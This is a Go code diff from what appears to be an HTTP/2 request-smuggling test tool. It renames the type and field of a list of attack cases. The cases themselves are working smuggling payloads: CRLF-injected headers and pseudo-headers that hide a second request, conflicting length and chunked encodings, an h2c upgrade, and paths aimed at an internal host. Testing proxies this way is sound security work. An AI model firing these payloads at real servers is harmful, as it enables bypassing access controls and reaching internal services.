@@ -51,7 +51,7 @@ func (r *framedRequest) asHTTP1() string {
 }
 
 // overHTTP2 are requests that fit into HTTP/2, and mean something else as HTTP/1.1.
-func overHTTP2() []Attack {
+func overHTTP2() []attack {
 	good := func(t *target, token string, with ...string) framedRequest {
 		r := framedRequest{body: t.body, fields: [][2]string{
 			{":method", "POST"},
@@ -98,46 +98,46 @@ func overHTTP2() []Attack {
 	before := func(t *target) string { return smuggled + t.body }
 	after := func(t *target) string { return chunk(t.body) + "0\r\n\r\n" + smuggled }
 	const end = " HTTP/1.1\r\nHost: " + site + "\r\n\r\n"
-	return []Attack{
-		{Name: "a line in a value", fields: with("x", "y\r\ncontent-length: 0\r\n\r\n"+smuggled)},
-		{Name: "a line in a value that ends with LF", fields: with("x", "y\ncontent-length: 0\n\n"+strings.ReplaceAll(smuggled, "\r", ""))},
-		{Name: "a line in a name", fields: with("x: y\r\ncontent-length: 0\r\n\r\nGET /api/smuggled"+end+"x", "y")},
-		{Name: "a line in the path", fields: with(":path", "/api/smuggled"+end+"POST {path}")},
-		{Name: "a line in the method", fields: with(":method", "GET /api/smuggled"+end+"POST")},
-		{Name: "a line in the authority", fields: with(":authority", site+"\r\ncontent-length: 0\r\n\r\n"+strings.TrimSuffix(smuggled, "\r\n\r\n"))},
-		{Name: "a line in the scheme", fields: with(":scheme", "http\r\ncontent-length: 0\r\n\r\n"+strings.TrimSuffix(smuggled, "\r\n\r\n"))},
-		{Name: "a space in the path", fields: with(":path", "{path} /api/smuggled")},
-		{Name: "a space in the method", fields: with(":method", "GET /api/smuggled")},
-		{Name: "an absolute path", fields: with(":path", "http://"+internal+"{path}")},
-		{Name: "a Host beside the authority", fields: with("host", internal)},
-		{Name: "chunks", fields: withBody(after, "transfer-encoding", "chunked", "content-length", "{length}")},
-		{Name: "chunks, with a space in the name", fields: withBody(after, "transfer-encoding ", "chunked", "content-length", "{length}")},
-		{Name: "chunks, in capitals", fields: withBody(after, "Transfer-Encoding", "chunked", "content-length", "{length}")},
-		{Name: "a length of 0", fields: withBody(before, "content-length", "0")},
-		{Name: "two lengths", fields: withBody(before, "content-length", "0", "content-length", "{length}")},
-		{Name: "a length with a plus sign", fields: withBody(before, "content-length", "+{length}")},
-		{Name: "a length that is too large", malformed: true, fields: withBody(before, "content-length", "1{length}")},
-		{Name: "an upgrade", onlyAPI: true, fields: with("connection", "upgrade, http2-settings", "upgrade", "h2c", "http2-settings", "AAMAAABkAARAAAAAAAIAAAAA")},
-		{Name: "a token in the trailer", onlyAPI: true, fields: func(t *target, token string) framedRequest {
+	return []attack{
+		{name: "a line in a value", fields: with("x", "y\r\ncontent-length: 0\r\n\r\n"+smuggled)},
+		{name: "a line in a value that ends with LF", fields: with("x", "y\ncontent-length: 0\n\n"+strings.ReplaceAll(smuggled, "\r", ""))},
+		{name: "a line in a name", fields: with("x: y\r\ncontent-length: 0\r\n\r\nGET /api/smuggled"+end+"x", "y")},
+		{name: "a line in the path", fields: with(":path", "/api/smuggled"+end+"POST {path}")},
+		{name: "a line in the method", fields: with(":method", "GET /api/smuggled"+end+"POST")},
+		{name: "a line in the authority", fields: with(":authority", site+"\r\ncontent-length: 0\r\n\r\n"+strings.TrimSuffix(smuggled, "\r\n\r\n"))},
+		{name: "a line in the scheme", fields: with(":scheme", "http\r\ncontent-length: 0\r\n\r\n"+strings.TrimSuffix(smuggled, "\r\n\r\n"))},
+		{name: "a space in the path", fields: with(":path", "{path} /api/smuggled")},
+		{name: "a space in the method", fields: with(":method", "GET /api/smuggled")},
+		{name: "an absolute path", fields: with(":path", "http://"+internal+"{path}")},
+		{name: "a Host beside the authority", fields: with("host", internal)},
+		{name: "chunks", fields: withBody(after, "transfer-encoding", "chunked", "content-length", "{length}")},
+		{name: "chunks, with a space in the name", fields: withBody(after, "transfer-encoding ", "chunked", "content-length", "{length}")},
+		{name: "chunks, in capitals", fields: withBody(after, "Transfer-Encoding", "chunked", "content-length", "{length}")},
+		{name: "a length of 0", fields: withBody(before, "content-length", "0")},
+		{name: "two lengths", fields: withBody(before, "content-length", "0", "content-length", "{length}")},
+		{name: "a length with a plus sign", fields: withBody(before, "content-length", "+{length}")},
+		{name: "a length that is too large", malformed: true, fields: withBody(before, "content-length", "1{length}")},
+		{name: "an upgrade", onlyAPI: true, fields: with("connection", "upgrade, http2-settings", "upgrade", "h2c", "http2-settings", "AAMAAABkAARAAAAAAAIAAAAA")},
+		{name: "a token in the trailer", onlyAPI: true, fields: func(t *target, token string) framedRequest {
 			anonymous := *t
 			anonymous.token = false
 			r := good(&anonymous, token)
 			r.trailer = [][2]string{{"authorization", "Bearer " + token}}
 			return r
 		}},
-		{Name: "two paths", fields: func(t *target, token string) framedRequest {
+		{name: "two paths", fields: func(t *target, token string) framedRequest {
 			r := good(t, token)
 			r.fields = append(r.fields[:4:4], append([][2]string{{":path", "/api/smuggled"}}, r.fields[4:]...)...)
 			return r
 		}},
-		{Name: "a path at the end", fields: func(t *target, token string) framedRequest {
+		{name: "a path at the end", fields: func(t *target, token string) framedRequest {
 			r := good(t, token)
 			r.fields = append(r.fields, [2]string{":path", "/api/smuggled"})
 			return r
 		}},
-		{Name: "no path", malformed: true, fields: with(":path", "")},
-		{Name: "a path without a slash", malformed: true, fields: with(":path", "api/smuggled")},
-		{Name: "a pseudo-header field of its own", malformed: true, fields: with(":path2", "/api/smuggled")},
+		{name: "no path", malformed: true, fields: with(":path", "")},
+		{name: "a path without a slash", malformed: true, fields: with(":path", "api/smuggled")},
+		{name: "a pseudo-header field of its own", malformed: true, fields: with(":path2", "/api/smuggled")},
 	}
 }
 
